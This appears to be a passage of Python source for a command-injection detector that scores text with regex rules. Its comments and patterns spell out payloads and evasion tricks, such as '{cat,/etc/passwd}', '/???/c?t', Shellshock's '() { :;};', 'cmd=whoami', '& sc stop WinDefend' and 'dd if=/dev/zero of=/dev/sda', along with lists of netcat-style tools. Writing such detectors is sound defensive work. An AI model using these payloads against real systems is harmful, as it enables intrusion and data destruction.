    def keep(score: float, rule: str, start: int, end: int) -> None:
        nonlocal best
        if best is None or score > best.score:
            best = Hit(Category.CMDI, score, rule, text, start, end)

    m = _STRONG_OR_CODE.search(text)
    if m is None:
        code = None
    elif m.group(1) is not None:
        keep(0.95, "cmdi.shell-syntax", m.start(), m.end())
        code = _CODE.search(text)
    else:
        code = m
    if best is None:
        option = option_run(text)
        if option is not None:
            keep(0.95, "cmdi.shell-syntax", option.start(), option.end())
    if best is None and "nul" in text and ">" in text:
        silenced = _NUL_REDIRECT.search(text)
        if silenced is not None:
            # "& choice /t 8 /d y >nul": a cmd.exe command after "&" with its output sent to NUL
            keep(0.9, "cmdi.shell-syntax", silenced.start(), silenced.end())
    if "()" in text and "{" in text:
        ss = _SHELLSHOCK.search(text)
        # the body closed right after the definition ("() { :;};"), not some other block's "};"
        # further on (a C++ upload: "struct Node { ... };" before "int main() {")
        if ss is not None and (";};" in text[ss.start() : ss.start() + 48].replace(" ", "")
                               or "};" in text[ss.end() : ss.end() + 16]):
            hits.append(Hit(Category.SHELLSHOCK, 0.9, "shellshock.function", text, ss.start(), ss.end()))
    if code is not None and text[code.start() : code.start() + 1] == "$" and _DYNAMIC_DATE.match(text, code.start()) is not None:
        code = None  # "$NOW(-7 days)": a headless CMS's dynamic date in a filter, not a variable function
    if code is None and "execute" in text:
        code = _GROOVY_EXECUTE.search(text)
    if code is None and "new file" in text:
        code = _GROOVY_FILE.search(text)
    if code is not None:
        short_tag = text.startswith("<?", code.start()) and not text.startswith("<?php", code.start())
        # "<?=" or "<? " inside a random blob (sensor data, tokens) is chance, not an open tag; so is
        # Perl's "@{[" (an encoded polyline of a map's route is letters and "@[\\]^_`{|}~")
        chance = short_tag or text.startswith("@{", code.start())
        if _named_in_link(text, code.start(), code.end()):
            # "https://docs.python.org/3/library/subprocess.html#subprocess.run": a documentation
            # link naming the function (its page or anchor), no call
            keep(0.3, "cmdi.code-name-in-link", code.start(), code.end())
        else:
            keep(0.45 if chance and random_blob(text) else 0.92, "cmdi.code-execution", code.start(), code.end())
    # (no separator: nothing for `_after_separator` to read, whatever the words)
    if (best is None or best.score < 0.95) and _has_separator(text) and _may_name_command(text):
        found = _after_separator(text)
        if found is not None:
            keep(*found)
    if (best is None or best.score < 0.9) and ("?" in text or "*" in text or "[" in text):
        glob = _glob_path(text)
        if glob is None and "[" in text and "]" in text:
            glob = _bracket_glob(text)
        if glob is not None:
            keep(0.9, "cmdi.glob-path", glob[0], glob[1])
    if (best is None or best.score < 0.9) and "{" in text:
        for count, brace in enumerate(_BRACE.finditer(text)):
            if count >= 8:
                break
            if _glued_brace(text, brace.start()):
                continue
            parts = brace.group(0)[1:-1].split(",")
            if _brace_command(parts) or (_after_shell_separator(text, brace.start()) and _brace_runs(parts)):
                keep(0.92, "cmdi.brace-expansion", brace.start(), brace.end())
                break
    if (best is None or best.score < 0.9) and "{" in text and "," in text:
        spelled = _word_brace(text)
        if spelled is not None:
            keep(0.9, "cmdi.brace-expansion", spelled[0], spelled[1])
    if (best is None or best.score < 0.88) and "$" in text and "=" in text:
        var = _VAR_COMMAND.search(text)
        if var is not None and _assigned(text, var.group(1), var.start()):
            keep(0.88, "cmdi.variable-command", var.start(), var.end())
    if (best is None or best.score < 0.9) and "$" in text:
        prefixed = _VAR_PREFIX.search(text)
        if prefixed is not None and prefixed.group(1) in _COMMAND_WORDS:
            keep(0.9, "cmdi.variable-prefix", prefixed.start(), prefixed.end())
    if (best is None or best.score < 0.9) and "${" in text:
        default = _DEFAULT_COMMAND.search(text)
        if default is not None and _command_name(default.group(1)) in _COMMAND_WORDS:
            keep(0.9, "cmdi.variable-default", default.start(), default.end())
        elif default is not None:
            spelled = _SPELLED_DEFAULTS.match(text, default.start())
            if spelled is not None and _command_name("".join(_DEFAULT_PIECE.findall(spelled.group(0)))) in _COMMAND_WORDS:
                # ";${x:-i}${y:-d}": a command spelled from the defaults of unset variables
                keep(0.9, "cmdi.variable-default", spelled.start(), spelled.end())
    if (best is None or best.score < 0.85) and "alias" in text:
        alias = _ALIAS.search(text)
        if alias is not None:
            keep(0.85, "cmdi.alias", alias.start(), alias.end())
    if (best is None or best.score < 0.9) and ",}" in text or "{," in text:
        brace = _EMPTY_BRACE.search(text)
        if brace is not None and any(
            _command_name(part) in DISTINCT_COMMANDS or _command_name(part) in COMMON_WORDS
            or (part[:1] == "/" and part.count("?") + part.count("*") >= 2)  # "{/?s?/?i?/c?t,}"
            for part in brace.group(0)[1:-1].split(",")[:4] if part):
            keep(0.9, "cmdi.brace-expansion", brace.start(), brace.end())
    if best is not None and best.rule in ("cmdi.separator-command", "cmdi.substitution") and best.score < 0.95 + 0.01 and random_blob(text):
        best = Hit(Category.CMDI, 0.45, best.rule, text, best.start, best.end)
    if best is None:
        found = _command_line(text, stripped)
        if found is None:
            assignment = _ASSIGNMENT.match(stripped)
            if assignment is not None:  # "code=ansible all -m ping": a raw form field in front
                value = stripped[assignment.end() :].strip()
                found = _command_line(text, value)
                if found is None and assignment.group(0)[:-1] in _COMMAND_PARAMETERS and _program_no_prose_names(value):
                    # "cmd=whoami": a program named to a web shell's command parameter
                    found = (0.85, "cmdi.command-parameter", len(text) - len(stripped), len(text))
        if found is not None:
            keep(*found)
    if best is not None:
        hits.append(best)
    return hits


# an argument in a brace expansion's list: an option, a path, an address, a variable, a quoted word
_BRACE_ARGUMENT = re.compile(r"[\-/~.$'\"\\<>]|[a-z0-9\-]{1,63}\.[a-z0-9]")


def _brace_command(parts: list[str]) -> bool:
    """``{cat,/etc/passwd}``, ``{ls,-la}``, ``{whoami}``-like lists: a command among the first
    three words, an argument after it unless the command is a name no word shares ("{cat,dog}",
    "{find,sort}" are lists of words)."""
    for i, part in enumerate(parts[:3]):
        if not part:
            continue
        name = _command_name(part)
        if name not in DISTINCT_COMMANDS:
            continue
        if name not in COMMON_WORDS or any(_BRACE_ARGUMENT.match(arg) for arg in parts[i + 1 :] if arg):
            return True
    return False


def _after_shell_separator(text: str, at: int) -> bool:
    """``text[at]`` follows a command separator or opens a substitution (``;{``, ``|{``, ``&{``,
    a line break, ``$({``, `` `{ ``), blanks allowed between: where a shell reads a command."""
    before = text[:at].rstrip(" \t")
    return before[-1:] in (";", "|", "&", "\n", "`") or before.endswith("$(")


def _brace_runs(parts: list[str]) -> bool:
    """``{sleep,5}``, ``{echo,x}``, ``{ps,aux}`` in command position: a command word first, then
    an argument (any word: after a separator the list is no field list of a query language)."""
    return len(parts) >= 2 and bool(parts[1]) and bool(parts[0]) and _command_name(parts[0]) in _COMMAND_WORDS


def _word_brace(text: str) -> tuple[int, int] | None:
    """``c{a,oun}t``, ``{l,-lh}s``: a brace expansion inside a word that spells a command."""
    if _WORD_BRACE_HINT.search(text) is None:
        return None
    for count, m in enumerate(_WORD_BRACE.finditer(text)):
        if count >= 8:
            break
        head, tail = m.group(1), m.group(3)
        if not head and not tail:
            continue  # "{cat,/etc/passwd}" is the brace rule's
        for alternative in m.group(2).split(","):
            word = head + alternative + tail
            if word in DISTINCT_COMMANDS or (word in COMMON_WORDS and len(word) >= 2):
                return m.start(), m.end()
    return None


# a probe's command that is also a word ("id", "set"), and the separator after which the
# application's own arguments would run as another command: the whole value ("id;", "set|")
_WORD_COMMAND_CUT = re.compile(r"(?:id|ps|env|set|pwd|who|ver|dir|hostname)[\s]{0,2}(?:;|\|\|?|&&?|%0a|\\n)[\s]{0,2}")


_CODE_AND_NUMBER = re.compile(r"[a-z0-9]{2,3}[\s]{1,2}[0-9]{1,5}[a-z]?")


def _command_line(text: str, stripped: str) -> tuple[float, str, int, int] | None:
    """A value (``stripped``, a suffix of ``text``) that starts with a command line."""
    if len(stripped) <= 16 and _WORD_COMMAND_CUT.fullmatch(stripped) is not None:
        offset = len(text) - len(stripped)
        return (0.85, "cmdi.command", offset, len(text))
    if stripped[1:3] in (":\\", ":/") and ("system32" in stripped or "syswow64" in stripped):
        program = _WINDOWS_PROGRAM.match(stripped)
        if (program is not None and stripped[program.end() :].strip()
                and stripped[: program.start(1)].rstrip("\\/").endswith(("system32", "syswow64"))):
            # (a program of the system directory itself, not a file deeper down: "...\\drivers\\etc\\hosts file")
            # "c:\\windows\\system32\\net user": a system program by its path, with arguments
            offset = len(text) - len(stripped)
            return (0.9, "cmdi.binary-path", offset, offset + program.end())
    if not _starts_with_command(stripped):
        return None
    if _CODE_AND_NUMBER.fullmatch(stripped) is not None:
        return None  # "sh 412", "nc 1234": a flight or a route, an airline's code and a number
    offset = len(text) - len(stripped)
    head = stripped.split(" ", 1)[0]
    if head in _PREFIXES and stripped[len(head) :].strip():
        offset += len(head)
        prefixed = _command_at(text, offset, at_start=True)
        return prefixed if prefixed is not None else (0.85, "cmdi.command", offset, min(len(text), offset + 40))
    return _command_at(text, offset, at_start=True)


def _assigned(text: str, name: str, end: int) -> bool:
    """``name=`` assigned (at a word start) before ``end``."""
    head = text[:end]
    pos = head.find(name + "=")
    while pos >= 0:
        if pos == 0 or head[pos - 1] in " \t;&|=":
            return True
        pos = head.find(name + "=", pos + 1)
    return False


# `_SEPARATOR`'s one-character alternatives ("<(", ">(" and "$(" hold a "(" too): any of them
# in a text is a match, found by a string search instead of the regex engine stopping at every
# "t" and "d" for its word separators
_SEPARATOR_CHARS = (";", "|", "&", "\n", "\r", "`", "(", "{")


def _has_separator(text: str) -> bool:
    """``_SEPARATOR.search(text) is not None``, cheaper."""
    for ch in _SEPARATOR_CHARS:
        if ch in text:
            return True
    if "%0a" in text or "\\n" in text:  # its escaped newlines: "%0a" and a literal backslash-n
        return True
    # what is left are its words "then" and "do": the regex tried at each occurrence only (a
    # string search skips to them; the regex engine would stop at every "t" and "d")
    for word in ("then", "do"):
        at = text.find(word)
        while at >= 0:
            if _SEPARATOR.match(text, at) is not None:
                return True
            at = text.find(word, at + 1)
    return False


def _may_name_command(text: str) -> bool:
    """Cheap gate: a command word appears as a word, or quotes / backslashes / empty
    expansions could be hiding one (``w'h'o'am'i``, ``c\\at``, ``wh$@oami``)."""
    if _OBFUSCATION.search(text) is not None:
        return True
    if "bin/" in text or "./" in text:
        return True  # ";./exploit", ";/bin/c?t", "|/usr/sbin/x": a binary by its path, whatever spells its name
    words = _WORDS.findall(text)
    if not _COMMAND_WORDS.isdisjoint(words) or not _GATED_NAMES.isdisjoint(words):
        return True
    if ".exe" in text and not _COMMAND_WORDS.isdisjoint(w[:-4] for w in words if w.endswith(".exe")):
        return True  # "certutil.exe -decode"
    # "gcc10.1", "python3.10": a word that starts with a versioned name (none without the name
    # and a digit somewhere in the text)
    if VERSION_HINT.search(text) is None:
        return False
    return any(w[-1].isdigit() and _VERSIONED.match(w) is not None for w in words)


def _bracket_glob(text: str) -> tuple[int, int] | None:
    """``/usr/[a-z]in/bash``, ``/[e//]tc/[p//]asswd``: a bracket glob that spells a system path.
    The glob becomes a pattern (a class loses its slashes, as bash ignores them) tried against
    a fixed list of sensitive files, system directories and binaries."""
    if _BRACKET_PATH_HINT.search(text) is None:
        return None  # no path word holds a bracket
    for count, m in enumerate(_BRACKET_PATH.finditer(text)):
        if count >= 8:
            break
        found = m.group(0)
        if "[" not in found or "]" not in found:
            continue
        parts: list[str] = []
        i = 0
        n = len(found)
        while i < n:
            ch = found[i]
            if ch == "[":
                close = found.find("]", i + 2)
                if close < 0:
                    break
                body = found[i + 1 : close].replace("/", "")
                negate = body[:1] in ("!", "^")
                body = body[1:] if negate else body
                if not body or "[" in body:
                    break
                parts.append("[" + ("^/" if negate else "") + body.replace("\\", "") + "]")
                i = close + 1
                continue
            parts.append("[^/]" if ch == "?" else "[^/]*" if ch == "*" else re.escape(ch))
            i += 1
        else:
            try:
                pattern = re.compile("".join(parts).rstrip("/") or "/")
            except re.error:
                continue
            if any(pattern.fullmatch(target) for target in _GLOB_TARGETS):
                return m.start(), m.end()
    return None


def _glob_path(text: str) -> tuple[int, int] | None:
    """``/???/c?t``, ``/e??/p?ss*``: a path of two or more segments spelled with wildcards."""
    if random_blob(text):
        return None
    for m in _GLOB_PATH.finditer(text):
        found = m.group(0)
        if m.start() > 0 and text[m.start() - 1] not in " \t;|&=`('\"+":
            continue  # a glob path starts a word
        if any(ch.isdigit() for ch in found):
            continue
        segments = [s for s in found.split("/") if s]
        if len(segments) < 2 or not all(any(c.isalpha() or c in "?*[" for c in s) for s in segments):
            continue
        if "*" not in found and "[" not in found and all(s == "?" for s in segments if "?" in s):
            continue  # "/w/?/projects/?/board": a route with its ids masked (RUM view names); no system directory has one letter
        wild = found.count("?") + found.count("*")
        if "[" in found:
            # /etc/pa[s]swd, /usr/bin/[u]name: a character class spelling a sensitive path
            plain = _BRACKET_CLASS.sub(lambda c: c.group(0).strip("[]!^")[:1], found)
            if plain != found and (_SENSITIVE_PATH.search(plain) or plain.startswith(("/bin/", "/usr/bin/", "/sbin/", "/etc/"))):
                return m.start(), m.end()
        if wild == 1 and "?" in found and found.startswith("/") and any(
                _SENSITIVE_PATH.search(found.replace("?", letter)) for letter in "abcdefghijklmnopqrstuvwxyz"):
            return m.start(), m.end()  # /etc/?asswd: one wildcard standing for a letter of a sensitive file
        if wild < 2 or wild == len(found) - found.count("/"):
            if not (wild >= 3 and "/" in found):
                continue
        before = text[max(0, m.start() - 200) : m.start()]
        if "://" in before and " " not in before[before.rfind("://") :]:
            continue  # inside a URL: '?' starts a query
        if "=" in found or "&" in text[m.end() : m.end() + 1]:
            continue
        return m.start(), m.end()
    return None


_SECOND_PREFIXES = frozenset({"eval", "exec", "command", "builtin"})
_PREFIXES = frozenset({"time", "nohup", "strace", "ltrace", "sudo", "doas", "env", "nice", "timeout", "watch",
                       "xargs", "exec", "command", "builtin", "busybox", "stdbuf", "unbuffer", "setsid", "ionice",
                       "chrt"})


# languages and tools that prose names in parentheses
_NAMED_IN_PROSE = frozenset(
    """java javac python python2 python3 perl ruby php lua node nodejs groovy docker podman kubectl mysql psql
    sqlite3 powershell pwsh bash zsh fish ssh ftp sftp telnet gcc clang tar zip unzip 7z gzip rpm yum dnf
    apt-get openssl gpg whois ping dig netstat nmap crontab awk sed grep curl wget jshell irb ansible knife
    redis-cli mongo mongosh expect tree sort more less file finger""".split()
)
# after a language's name: a dotted API name that is no script file, then plain words ("time.sleep not working")
_API_NAME_THEN_WORDS = re.compile(
    r"[\s]{1,4}[a-z_][a-z0-9_]{0,30}\.(?!(?:py|pl|rb|php|sh|js|jar|class|exe|bat|ps1|lua|groovy)\b)[a-z_][a-z0-9_]{1,30}"
    r"(?:\(\))?(?:[\s]{1,4}[a-z']{2,20}){1,8}[\s?.!]{0,4}"
)
# a tool asked for its version or usage, nothing after: "-v", "--version", "-version", "--help"
_VERSION_QUERY = re.compile(r"[\s]{1,4}(?:-v|-V|--version|-version|-h|--help|-help|/\?)[\s]{0,4}")
# the rest of a Python traceback's frame line after "File": ' "app/views.py", line 44, in get'
_TRACEBACK_FRAME = re.compile(r' "[^"\n]{1,300}", line [0-9]{1,7}(?:,|$|\n)')
# a version number after a tool's name ("python 3", "php 8.2", "java 17 download")
_VERSION_ARG = re.compile(r"[\s]{1,8}v?[0-9]{1,4}(?:\.[0-9]{1,4}){0,3}(?:$|[\s,])")
# a dotted version, bare or in parentheses, and nothing of a command line after it
_RUNTIME_VERSION = re.compile(r"[\s]{1,8}(?:\([\s]{0,2}v?[0-9]{1,4}(?:\.[0-9]{1,4}){1,3}[\s]{0,2}\)|v?[0-9]{1,4}(?:\.[0-9]{1,4}){1,3})(?:$|[;,)]|[\s]{1,4}[a-z(])")
# developer tools whose command lines people paste into search boxes ("docker run -it ubuntu bash")
_DEV_TOOLS = frozenset({"docker", "podman", "kubectl", "git", "npm", "pip", "pip3", "pipx", "python", "python3",
                        "node", "java", "gcc", "clang", "apt-get", "yum", "dnf", "brew"})
# prefixes that are tools, never words of prose
# the programs a proof of concept starts on Windows ("| start calc")
_DEMO_PROGRAMS = frozenset({"calc", "calc.exe", "notepad", "notepad.exe", "mspaint", "mspaint.exe"})
_TOOL_PREFIXES = frozenset({"nohup", "strace", "ltrace", "sudo", "doas", "busybox", "stdbuf", "unbuffer", "setsid"})
# ordinary words that start a command line when an absolute path (of two segments or more) follows
# (not cd, dd, du, df: "CD /DVD/Blu-ray player" is a product)
_PATH_COMMANDS = frozenset({"cat", "ls", "ll", "rm", "cp", "mv", "tail", "less", "tee", "touch", "ln", "chown",
                            "chmod", "grep", "stat", "tar", "unzip"})
_PING_ARGUMENT = re.compile(r"(?:-[a-z]{1,2}[\s]{0,4}[0-9]{1,5}[\s]{1,4}){1,3}(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|localhost|[a-z0-9\-]{1,63}\.[a-z]{2,})")
# an IPv4 address as the first argument ("ping 127.0.0.1 -n 3"): a host, not a version
_IPV4_ARG = re.compile(r"[\s]{1,8}[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?:$|[\s:/;|&])")
# The steps a README or a CI job runs before the project's own script: a change into a directory
# of the project (relative: "cd /tmp" is where a dropped payload runs) and package installs
_BUILD_STEP = (r"(?:cd[\s]{1,4}[a-z0-9_\-][a-z0-9_.\-/]{0,60}|(?:npm|yarn|pnpm)(?:[\s]{1,4}(?:install|ci|i|run[\s]{1,4}[a-z0-9:_\-]{1,30}))?"
               r"|git[\s]{1,4}pull|make|bundle[\s]{1,4}install|composer[\s]{1,4}install|pip3?[\s]{1,4}install[\s]{1,4}-r[\s]{1,4}[a-z0-9_.\-/]{1,60})")
_BUILD_STEPS = re.compile(r"[\s]{0,4}" + _BUILD_STEP + r"(?:[\s]{0,4}(?:&&|;)[\s]{0,4}" + _BUILD_STEP + r"){0,4}[\s]{0,4}")
# a clause of prose after a sleep's separator ("sleep 5; then retry"), not a command
_PROSE_PAIR = re.compile(r"[;&|#][\s]{0,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}(?:$|[\s.,!?])")
_SLEEP_ARGUMENT = re.compile(r"[0-9]{1,4}(?:\.[0-9]{1,3})?[smhd]?[\s]{0,4}(?:[;&|#][^\n]{0,40})?")
_WINDOWS_PATH_ARGUMENT = re.compile(r"(?:/[a-z][\s]{1,4}){0,3}['\"]?(?:[a-z]:\\|%[a-z_]{2,20}%\\|\\\\[a-z0-9])")
_PATH_ARGUMENT = re.compile(r"(?:-{1,2}[a-z]{1,12}[\s]{1,4}){0,3}(?:(?:/[a-z0-9_.\\\-]{1,40}){2}|~/|\.\./)")

# cmd.exe variables expanded where a program's name goes: "%x%%y%", "%comspec%"
_CMD_VARIABLES = re.compile(r"(?:%[a-z_][a-z0-9_]{0,30}(?::~[0-9\-,]{1,8})?%){1,4}(?:$|[\s&|])")
_BIN_DIRS = ("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/")
# a program by its absolute Windows path, its last segment the name (".exe" optional): "c:\\windows\\system32\\whoami"
_WINDOWS_PROGRAM = re.compile(r"[\s]{0,4}['\"]?[a-z]:[\\/](?:[a-z0-9_ .()\-]{1,40}[\\/]){1,8}([a-z0-9_\-]{2,40})(?:\.exe)?['\"]?(?=$|[\s;&|'\"])")
_WINDOWS_PATH_SEPARATORS = frozenset({";", "&", "&&", "|", "||", "\n", "%0a"})


def _starts_with_command(text: str) -> bool:
    head, _, rest = text[:48].partition(" ")
    if ";" in head or "|" in head or "&" in head or "%0a" in head or "\\n" in head:
        cut = min(head.find(c) for c in (";", "|", "&", "%0a", "\\n") if c in head)
    else:
        cut = -1
    if cut > 0:
        head, rest = head[:cut], head[cut:] + " " + rest  # "whoami;..."
    prefixed = False
    if head in _PREFIXES and rest.strip():
        prefixed = head in _TOOL_PREFIXES
        head, _, rest = rest.lstrip().partition(" ")  # "time ifconfig", "nohup wget ..."
        head = head.rstrip()
    if head.startswith(_BIN_DIRS) and rest.strip():
        return True  # "/bin/gunzip -c ...": a binary by its path, with arguments
    if "/" in head:
        return False
    name = _command_name(head)
    if "\\" in head:
        return name in DISTINCT_COMMANDS  # "w\\ho\\am\\i": escapes inside a command name
    if prefixed and (name in DISTINCT_COMMANDS or name in COMMON_WORDS):
        return True  # "nohup who", "strace id": a tool that only ever runs a command
    if name in _PATH_COMMANDS and head == name and _PATH_ARGUMENT.match(rest) is not None:
        return True  # "cat /path/file.gz", "ls -la /var/www/"
    if name == "ping" and head == name and _PING_ARGUMENT.match(rest) is not None:
        return True  # "ping -c 3 127.0.0.1", "ping -n 10 localhost"
    if (name == "sleep" and head == name and _SLEEP_ARGUMENT.fullmatch(rest) is not None
            and _PROSE_PAIR.search(rest) is None):
        return True  # "sleep 10": a time-based probe that is the whole value (prose says "sleep 10 hours")
    if name in ("dir", "type", "del", "icacls") and head == name and _WINDOWS_PATH_ARGUMENT.match(rest) is not None:
        return True  # "dir c:\\windows", "type C:\\boot.ini"
    if name in COMMON_WORDS and name != head and (head.count("'") >= 2 or head.count('"') >= 2):
        return True  # "ti''me who": quotes inside an ordinary command word
    return name in DISTINCT_COMMANDS and head not in COMMON_WORDS


# binaries (no common words) that are English words or names too: "touch base", "reboot camp"
_ENGLISH_COMMANDS = frozenset({"erase", "touch", "shred", "shutdown", "reboot", "poweroff", "pry", "dash", "unset",
                               "sh", "hostname", "passwd", "mkdir", "uptime", "cmd", "runas", "doas", "chef-client"})


# command interpreters: what "| bash" or "& start cmd" hands the rest of the input to
def _program_no_prose_names(word: str) -> bool:
    """A program's name that no sentence uses as a word ("whoami", "netstat"; not "find", "touch",
    "more"): named alone after a prefix or to a command parameter, it is the program."""
    return (word in DISTINCT_COMMANDS and word not in _NAMED_IN_PROSE and word not in _ENGLISH_COMMANDS
            and word not in COMMON_WORDS)


_SHELLS = frozenset({"sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "busybox", "cmd", "powershell", "pwsh",
                     "python", "python3", "perl", "ruby", "php", "node"})


# the parameter names web shells and debug endpoints take a command in
_COMMAND_PARAMETERS = frozenset({"cmd", "exec", "command", "execute", "run", "shell", "system", "cmdline", "c"})


# ordinary words that, run with no argument, print the host's state: the environment and shell
# variables (set), who is logged in (who, w, last), mounts, routes, sockets, disks; after a
# separator at a value's end they are a probe however ordinary the word before ("date && set")
_LONE_RECON = frozenset({"set", "who", "w", "last", "mount", "route", "ss", "df"})


# the ordinary command words a probe ends its value with after a spaced pipe ("x | id", "a | date")
_PROBE_ENDINGS = frozenset({"id", "ls", "ps", "pwd", "env", "set", "who", "w", "last", "date", "time", "dir",
                            "ver", "vol", "mount", "route", "ss", "df", "du", "ll", "ip"})


# Short command words that are no English word: after a bare "&" they run on their own
# ("&id", "& ver", "x&dir&"), where "Tom & Jerry & more" or "Name & ID card" is prose.
_BARE_AMP_COMMANDS = frozenset({"id", "ver", "vol", "dir", "ls", "ps", "pwd", "env", "whoami", "uname",
                                "systeminfo", "ipconfig", "ifconfig", "hostname", "tasklist", "netstat"})


# what a ping or lookup form holds before its command is appended: an address ("127.0.0.1 & dir"),
# a host name or an e-mail address ("user@corp.local &dir")
_ADDRESS_LEAD = re.compile(
    r"[\s]{0,4}(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|localhost|\[?[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}\]?"
    r"|(?:[a-z0-9._%+\-]{1,64}@)?(?:[a-z0-9\-]{1,63}\.){1,6}[a-z]{2,24})[\s]{0,4}"
)
# a common command word with the option cluster only that command takes ("ps aux", "ps -ef")
# (and the verbs of Windows tools whose arguments read as words: "wmic process call create x",
# "rundll32 javascript:...", "rundll32 x.dll,Entry")
_OWN_OPTIONS = {
    # "usleep 5000000": a time-based probe counted in microseconds (more digits than other counts)
    "usleep": re.compile(r"[\s]{1,4}[0-9]{4,10}(?:$|[\s;|&#'\"])"),
    "ps": re.compile(r"[\s]{1,4}-?(?:aux[wf]{0,2}|axjf|ax|elf|ef)(?:$|[\s;|&'\"#)])"),
    "wmic": re.compile(r"[\s]{1,4}(?:process|os|useraccount|group|service|qfe|product|startup|share|nicconfig|"
                       r"logicaldisk|computersystem|shadowcopy|/node:)"),
    "rundll32": re.compile(r"[\s]{1,4}(?:javascript:|[a-z0-9_.\\/:\-\"]{1,80},)"),
    # "tar czf x.tgz /etc", "ip addr", "dig @8.8.8.8 x", "sc query", "attrib +h x", "service sshd stop"
    "tar": re.compile(r"[\s]{1,4}-?[cxtruzjvfpa]{2,6}[\s]{1,4}\S"),
    "ip": re.compile(r"[\s]{1,4}(?:a|addr|address|r|route|link|neigh|n|rule|-[46]|-br)(?:$|[\s;|&])"),
    "dig": re.compile(r"[\s]{1,4}(?:@[a-z0-9.:\-]{1,60}|[a-z0-9\-$`(){}]{1,63}\.[a-z0-9.\-]{2,80}(?:$|[\s;|&#])|-[xt4-6]\b|\+[a-z]{2,12}\b)"),
    "sc": re.compile(r"[\s]{1,4}(?:(?:query|queryex|qc|create|config|delete|sdshow|\\\\)(?:$|[\s;|&])"
                     r"|(?:stop|start|pause)[\s]{1,4}[a-z0-9_\-]{2,40}(?:$|[\s;|&]))"),  # "& sc stop WinDefend"
    "route": re.compile(r"[\s]{1,4}(?:print|-n|-4|-6|add|delete)(?:$|[\s;|&])"),
    "attrib": re.compile(r"[\s]{1,4}[+\-][rahsi](?:$|[\s])"),
    # "query user", "query session": the terminal-services query, the value's end after it
    "query": re.compile(r"[\s]{1,4}(?:user|session|process|termserver)[\s]{0,4}(?:$|[;|&#'\"])"),
    # "dd if=/dev/zero of=/dev/sda": the copier's operands
    "dd": re.compile(r"[\s]{1,4}(?:if|of|bs|count|skip|seek)=\S"),
    "service": re.compile(r"[\s]{1,4}(?:[a-z0-9_.@\-]{1,40}[\s]{1,4}(?:start|stop|restart|status|reload)|--status-all)(?:$|[\s;|&])"),
}


# what a file form holds before its command is appended: one file name ("report.pdf & dir")
_FILE_LEAD = re.compile(r"[\s]{0,4}[a-z0-9_\-]{1,40}\.(?:txt|pdf|jpg|jpeg|png|gif|doc|docx|xls|xlsx|csv|zip|log|xml|json|html|php|sh|exe)[\s]{0,4}")


def _bare_amp(text: str, pos: int) -> bool:
    """The ``&`` before ``pos`` starts the value (``& ver``), follows an address alone
    (``127.0.0.1 & dir``) or is glued to a word before it (``a&id``, not ``Name & ID``), outside
    a query string (``?page=2&id`` names a parameter)."""
    lead = text[: pos - 1]
    if not lead.strip() or _ADDRESS_LEAD.fullmatch(lead) is not None or _FILE_LEAD.fullmatch(lead) is not None:
        return True
    return lead[-1] not in " \t" and text[pos : pos + 1] != " " and "=" not in lead and "?" not in lead


# names that are commands only as `_TOOL_SUBCOMMAND` and `_HISTORY` read them ("AWS; Azure", "art |
# history" are prose), so the gate lets them through but the command words do not hold them
_GATED_NAMES = frozenset({"aws", "gcloud", "oc", "helm", "history"})
_PROBE_SEPARATORS = frozenset({";", "|", "||", "&&", "&", "\n", "%0a"})
# what container and cloud tools answer about the host they run on, and a program looked up by name
_TOOL_SUBCOMMAND = re.compile(
    r"[\s]{0,4}(?:(?:docker|podman|kubectl|oc|helm|crictl)[\s]{1,4}(?:ps|images|exec|run|inspect|logs|get|describe|info|cp|secrets?|config[\s]{1,4}view)"
    r"|aws[\s]{1,4}(?:configure|sts|s3|iam|ec2|ssm|lambda|secretsmanager)|gcloud[\s]{1,4}(?:auth|config|compute|projects|iam|secrets)"
    r"|(?:which|whereis)[\s]{1,4}(?:nc|ncat|netcat|python[23]?|perl|ruby|php|bash|sh|gcc|wget|curl|socat|nmap|busybox|telnet))"
    r"(?:$|[\s;|&#'\"])"
)

# the shell's own history, printed: a noun too ("art | history"), so only after "&&", "||" or in
# a substitution, with the value or the substitution ending after it
_HISTORY = re.compile(r"[\s]{0,4}history[\s]{0,4}(?:$|[`);|&#])")


# (matched from the value's start: it gives up after a few dozen characters, whatever the length)
_ONE_TOKEN = re.compile(r"[\s]{0,8}[^\s]{0,40}[\s]{0,8}")


def _token_lead(text: str, at: int) -> bool:
    """What comes before the separator at ``at`` is one token or nothing ("admin", "1 ", "x"): the
    value a probe's separator is glued to, not a clause of prose."""
    return _ONE_TOKEN.fullmatch(text, 0, at) is not None


# commands that look a program up for a substitution to run: "`which nc` -e ...", "$(which id)"
_LOOKUP_COMMANDS = frozenset({"which", "whereis"})
# "dog; fish & chips": a word joined to the next by "&", "|", "and" or "or": prose
_CONJUNCTION = re.compile(r"[\s]{1,4}(?:&|\||and|or)[\s]{1,4}([a-z]{2,20})(?:$|[\s,.!?])")
# the words probes print to find their output again ("admin ; echo vulnerable"): no sentence
# echoes them, so a spaced separator before them is no prose
_PROBE_MARKERS = frozenset({"vulnerable", "vulnerable.", "pwned", "hacked", "injected", "injectx"})
# "echo <one word>" closing the value (or a ";" "#" "|" "&" after it, and the quote the probe reopens:
# "1);echo vulnerable;'"): the marker a probe prints
_ECHO_WORD = re.compile(r"[\s]{1,4}['\"]?[a-z0-9_\-]{1,30}['\"]?[\s]{0,4}(?:([;#|&])[\s]{0,4}['\"]?)?$")


def _echo_marker(text: str, pos: int, separator: str, lead: str, rest: str) -> bool:
    """``a.txt;echo vulnerable``, ``admin| echo ok``, ``127.0.0.1 & echo x;``, ``a\\necho x``: a
    separator and ``echo`` printing one word to end the value. Prose separates with a space on
    both sides ("sounds | echo chamber") or a semicolon and a space ("dog; echo"); a probe glues
    its separator, follows an address, or ends its line with ``;`` / ``#``."""
    word = _ECHO_WORD.match(rest)
    if word is None:
        return False
    if separator == "\n" or rest.split()[0].strip("'\"") in _PROBE_MARKERS:
        return True
    sep_at = pos - len(separator)
    glued_left = sep_at > 0 and not text[sep_at - 1].isspace()
    glued_right = text[pos : pos + 1] not in (" ", "\t")
    if word.group(1) is not None or _ADDRESS_LEAD.fullmatch(lead) is not None:
        return True
    if separator == ";" or separator == "&":
        return glued_left and glued_right
